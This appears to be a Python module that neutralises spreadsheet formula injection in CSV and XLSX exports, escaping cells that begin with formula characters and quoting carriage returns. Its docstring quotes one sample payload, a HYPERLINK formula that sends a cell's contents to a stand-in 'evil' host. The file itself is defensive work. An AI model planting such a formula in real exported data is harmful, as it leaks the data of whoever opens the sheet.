r"""Spreadsheet cells that can never become formulas (CSV and formula injection).

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is run as a formula by Excel, LibreOffice and Google Sheets when a CSV
or workbook is opened (``=HYPERLINK("http://evil/?"&A1,"点击")`` from a scraped
page or a manifest title). OWASP's CSV-injection guidance: prefix such a cell
with an apostrophe, which every spreadsheet shows as text. Every CSV and XLSX
writer of the product goes through :func:`neutralise_frame`; readers of our own
sheets take the apostrophe off again with :func:`restore`, so a round trip
gives the original text.

Every CSV the product writes also ends its records with CRLF
(:data:`CSV_LINE_END`, RFC 4180 and what spreadsheets write), through
:func:`csv_writer` or :func:`frame_csv`. Python's :mod:`csv` writer quotes a
cell only for the characters of its line terminator: with ``"\n"`` alone, a
cell holding a bare carriage return (``"a\rb"``) went out unquoted, and
spreadsheets and ``csv`` readers split it in two.
"""

from __future__ import annotations

import csv
from typing import Any, TextIO

import pandas as pd

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> object:
    """``value`` with a leading apostrophe when it is text a spreadsheet would run.

    >>> neutralise('=HYPERLINK("http://x")'), neutralise("-1+2"), neutralise("汕头")
    ('\\'=HYPERLINK("http://x")', "'-1+2", '汕头')
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def restore(value: str) -> str:
    """The text :func:`neutralise` was given (for readers of our own sheets).

    >>> restore("'=1+1"), restore("'plain"), restore("=1")
    ('=1+1', "'plain", '=1')
    """
    if value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names are all neutralised."""
    out = frame.copy()
    for column in out.columns:
        if not pd.api.types.is_numeric_dtype(out[column]):
            out[column] = out[column].map(neutralise)
    out.columns = [neutralise(str(name)) for name in out.columns]
    return out


#: The end of every CSV record the product writes. Holding ``"\r"``, it makes
#: the csv writer quote every cell with a bare carriage return in it.
CSV_LINE_END = "\r\n"


def csv_writer(stream: TextIO) -> Any:
    r"""A :func:`csv.writer` on ``stream`` that quotes cells holding ``\r`` or ``\n``.

    The caller neutralises the cells (:func:`neutralise`); ``stream`` is opened
    with ``newline=""`` when it is a file.
    """
    return csv.writer(stream, lineterminator=CSV_LINE_END)


def frame_csv(frame: pd.DataFrame, header: bool = True) -> str:
    r"""``frame`` as CSV text, every cell neutralised and every line break quoted.

    ``header`` False leaves out the line of column names (a later piece of a table
    written in pieces).

    >>> frame_csv(pd.DataFrame({"title": ["a\rb", "=1+1"]}))
    'title\r\n"a\rb"\r\n\'=1+1\r\n'
    """
    return neutralise_frame(frame).to_csv(index=False, header=header, lineterminator=CSV_LINE_END)


__all__ = [
    "CSV_LINE_END",
    "FORMULA_STARTS",
    "csv_writer",
    "frame_csv",
    "neutralise",
    "neutralise_frame",
    "restore",
]
